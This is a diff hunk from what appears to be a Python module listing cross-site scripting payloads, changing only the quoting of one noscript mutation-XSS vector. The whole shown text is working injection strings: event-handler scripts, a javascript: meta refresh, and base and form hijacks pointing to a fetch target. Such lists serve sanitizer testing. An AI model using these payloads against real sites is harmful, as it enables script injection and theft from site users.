@@ -35,7 +35,7 @@ PAYLOADS: tuple[str, ...] = (
     f"<video><source onerror={_RUN}></video>",
     f"<marquee onstart={_RUN}>",
     f'<math><mtext></p><style><img src=x onerror="{_RUN}"></style>',
-    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
+    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
     f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
     f'<base href="{_FETCH}/">',
     f'<form action="{_FETCH}"><button autofocus>x</button></form>',
